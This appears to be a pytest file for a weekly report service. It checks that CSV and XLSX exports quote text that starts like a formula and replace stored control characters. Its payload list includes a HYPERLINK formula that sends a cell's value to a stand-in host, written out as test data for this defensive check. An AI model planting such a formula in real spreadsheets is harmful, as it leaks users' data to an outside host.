"""Stored text in the weekly report's spreadsheets (services/reports/cells.py).

A fence name or callsign that starts like a formula stays text in CSV and XLSX, and a control
character stored before ingest refused them does not break the XLSX for everyone.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from services.reports.weekly import Table, WeeklyReport, to_csv, to_xlsx

#: Text an attacker or a careless admin could store, one per formula trigger (OWASP).
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def report(names: list[str]) -> WeeklyReport:
    table = Table("Hot spots", "Hot spots", ("fence_id", "name", "minutes"), tuple((n, n, -1.5) for n in names))
    return WeeklyReport(None, 0.0, (table,), (), (), ())  # type: ignore[arg-type]  # week unused by the writers


@pytest.mark.parametrize("text", FORMULAS)
def test_report_csv_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report([text])).decode())))
    assert rows[2] == ["'" + text, "'" + text, "-1.5"]  # numbers stay numbers


@pytest.mark.parametrize("text", FORMULAS)
def test_report_xlsx_text_starting_like_a_formula_is_a_string_cell(text: str) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(report([text]))))["Hot spots"]
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value.strip() == text.strip()  # XML reads a CR back as LF
    assert sheet["C2"].value == -1.5


def test_report_xlsx_stored_control_characters_become_replacement_characters() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(report(["PC\x01 12\x1b"]))))["Hot spots"]
    assert sheet["B2"].value == "PC\ufffd 12\ufffd"
